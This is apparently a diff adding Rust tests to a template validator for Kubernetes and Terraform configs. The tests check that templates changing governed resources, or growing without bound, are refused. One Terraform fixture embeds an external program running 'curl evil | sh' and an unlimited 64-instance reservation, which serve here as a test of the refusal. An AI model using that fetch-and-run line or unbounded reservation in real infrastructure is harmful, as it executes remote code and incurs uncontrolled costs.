@@ -158,3 +158,131 @@ fn a_name_that_would_leave_the_output_folder_is_refused_by_validate() {
         "{codes:?}"
     );
 }
+
+fn with_template(repo: &Path, name: &str, text: &str) {
+    let path = repo.join("templates").join(name);
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, text).unwrap();
+}
+
+const QUOTA_1000: &str = r#"apiVersion: v1
+kind: ResourceQuota
+metadata:
+  name: {{ name | json }}
+  namespace: {{ namespace | json }}
+spec:
+  hard:
+{%- for key, value in hard | items %}
+    {{ key | json }}: "1000"
+{%- endfor %}
+"#;
+
+const QUOTA_LABELLED: &str = r#"apiVersion: v1
+kind: ResourceQuota
+metadata:
+  name: {{ name | json }}
+  namespace: {{ namespace | json }}
+  labels: {acme.ai/owner: {{ team | json }}}
+spec:
+  hard:
+{%- for key, value in hard | items %}
+    {{ key | json }}: {{ value | string | json }}
+{%- endfor %}
+{%- if priority_class %}
+  scopeSelector:
+    matchExpressions:
+      - scopeName: PriorityClass
+        operator: In
+        values: [{{ priority_class | json }}]
+{%- endif %}
+"#;
+
+const TERRAFORM_EXTERNAL: &str = r#"{
+  "data": {"external": {"x": {"program": ["sh", "-c", "curl evil | sh"]}}},
+  "resource": {
+    "aws_ec2_capacity_reservation": {
+      {{ id | json }}: {
+        "availability_zone": {{ reservation.zone | json }},
+        "instance_count": 64,
+        "instance_platform": "Linux/UNIX",
+        "instance_type": {{ reservation.instance_type | json }},
+        "instance_match_criteria": "open",
+        "end_date_type": "unlimited",
+        "tags": {{ tags | json }}
+      }
+    }
+  }
+}
+"#;
+
+#[test]
+fn templates_may_restyle_and_label_but_not_change_what_objects_govern() {
+    // A quota of 1,000 GPUs for every team: refused, nothing written.
+    let (dir, repo) = fresh();
+    with_template(&repo, "kubernetes/resourcequota.yaml.j2", QUOTA_1000);
+    let out = dir.path().join("out");
+    let r = render(&repo, Some(&out));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains("template-changes-governed"),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains("/spec/hard/requests.nvidia.com~1gpu"),
+        "{}",
+        r.stderr
+    );
+    assert!(!out.exists());
+    // Terraform that runs a program, buys 64 instances and never ends: refused.
+    let (dir, repo) = fresh();
+    with_template(
+        &repo,
+        "terraform/aws-capacity-reservation.tf.json.j2",
+        TERRAFORM_EXTERNAL,
+    );
+    let out = dir.path().join("out");
+    let r = render(&repo, Some(&out));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains("template-changes-governed"),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("/data"), "{}", r.stderr);
+    assert!(r.stderr.contains("instance_count"), "{}", r.stderr);
+    assert!(!out.exists());
+    // A label of the organisation's own is fine.
+    let (dir, repo) = fresh();
+    with_template(&repo, "kubernetes/resourcequota.yaml.j2", QUOTA_LABELLED);
+    let out = dir.path().join("out");
+    let r = render(&repo, Some(&out));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let q = std::fs::read_to_string(out.join("prod-h100/resourcequota-inference-capops-gpu.yaml"))
+        .unwrap();
+    assert!(q.contains("acme.ai/owner: inference"), "{q}");
+}
+
+#[test]
+fn a_template_that_would_grow_without_bound_is_refused_quickly() {
+    let (dir, repo) = fresh();
+    // A macro that doubles a string on every call, and a string repeated past a megabyte.
+    with_template(
+        &repo,
+        "kubernetes/cohort.yaml.j2",
+        "{%- macro d(s) %}{{ d(s ~ s) }}{% endmacro %}{{ d('x') }}",
+    );
+    let r = render(&repo, Some(&dir.path().join("out")));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("macros"), "{}", r.stderr);
+    let (dir, repo) = fresh();
+    with_template(
+        &repo,
+        "kubernetes/cohort.yaml.j2",
+        "apiVersion: kueue.x-k8s.io/v1beta2\nkind: Cohort\nmetadata: {name: {{ name | json }}}\nx: {{ 'x' * 2000000 }}\n",
+    );
+    let r = render(&repo, Some(&dir.path().join("out")));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("template-error"), "{}", r.stderr);
+    assert!(r.stderr.contains("wrote 2000081 bytes"), "{}", r.stderr);
+}
